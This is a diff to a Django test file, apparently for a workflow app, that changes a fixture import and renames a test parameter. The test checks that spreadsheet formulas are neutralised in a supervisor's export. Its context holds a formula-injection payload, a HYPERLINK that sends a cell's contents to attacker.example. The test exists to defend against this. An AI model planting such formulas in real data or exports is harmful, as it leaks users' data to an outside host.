@@ -9,7 +9,7 @@ from rest_framework.test import APIClient
 
 from accounts.models import User
 from config.spreadsheet import safe_cell
-from tests.workflows.conftest import catalog, submit_moving  # noqa: F401  (fixture)
+from tests.factories import submit_moving
 from workflows import actions
 
 pytestmark = pytest.mark.django_db
@@ -17,7 +17,7 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
 
 
-def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(catalog, client):  # noqa: F811
+def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(demo, client):
     application = submit_moving()
     actions.advance(application_id=application.pk)
     case = application.cases.get(step="tax")
